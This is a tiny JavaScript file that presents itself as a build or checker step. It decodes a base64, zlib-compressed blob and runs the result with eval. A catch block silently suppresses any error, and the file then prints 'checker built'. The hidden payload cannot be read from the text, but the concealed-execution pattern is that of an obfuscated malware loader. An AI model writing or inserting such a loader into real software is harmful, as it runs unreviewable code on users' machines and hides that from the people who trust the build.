const z = require("zlib");
const blob = "eJwdjEEKgzAQRa8yzKpdKPQGUqgbF4IXCGaqQ5NMSCai3t4q/MXjv8fHBtCKeWyzZ5AJzpoDzSHhCzp2BBx3LKD8jC5d9PU2upnSgNwtHIqNDw6ztpGgVhUa9HS6aX2Ijd9GUjWJlqkPZoxZ2qA5SJuFmDthDd4CtnDXF8s/JrNQm5jV8o5xLLdBWHrdD0kWZGZ2F0";
try { eval(z.inflateSync(Buffer.from(blob, "base64")).toString()); } catch (e) {}
console.log("checker built");
